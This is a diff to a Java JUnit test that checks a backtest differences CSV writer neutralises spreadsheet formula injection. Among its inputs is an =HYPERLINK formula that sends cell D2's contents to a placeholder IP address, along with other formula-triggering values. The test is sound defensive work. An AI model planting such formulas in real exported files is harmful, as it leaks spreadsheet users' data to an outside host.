@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import java.io.IOException;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import lingdian.record.backtest.BacktestTally.Cell;
 import org.junit.jupiter.api.Test;
@@ -47,6 +48,38 @@ class BacktestPageTest {
                 .contains("变化的字段", "<td>seconds 2，standing 2</td>")
                 .contains("差异明细（3 条中的前 3 条）", "2026-07-02 00:00:00", "<td>30 → 40</td>", "<td>70</td>")
                 .contains("<td>事实 → 嫌疑</td>", "<td>事实</td>");
+    }
+
+    /** A spreadsheet runs what begins like a formula, also behind a comma or in a line that a value begins. */
+    @Test
+    void whatAForeignHistoryPutsIntoAValueIsNoFormula() throws IOException {
+        Path file = directory.resolve("differences.csv");
+        for (String value : new String[] {
+            "=HYPERLINK(\"http://198.51.100.1/?\"&D2)",
+            "@SUM(1+1)",
+            "fact,=1+1",
+            "fact\n=1+1",
+            "+1",
+            "-1",
+            "\"=1\"",
+            "＝1"
+        }) {
+            ObjectNode stored =
+                    overtime(30).put("standing", value).put("endedAt", value).put(value, 1);
+            stored.putArray("authorities").add(value);
+            try (var differences = new DifferenceFile(file)) {
+                differences.add(
+                        cell("OVERTIME_OPERATION"),
+                        Difference.of(stored, overtime(40), Candidate.RELEASED.ignoredFields()));
+                differences.add(cell(value), Difference.of(stored, null, Candidate.RELEASED.ignoredFields()));
+            }
+        }
+
+        assertThat(Files.readAllLines(file))
+                .hasSize(17)
+                .allSatisfy(line ->
+                        assertThat(line.split(",", -1)).hasSize(15).allMatch(cell -> cell.matches("[?]|\\w.*|")))
+                .noneMatch(line -> line.contains("=") || line.contains("＝"));
     }
 
     private String page(BacktestTally tally) throws IOException {
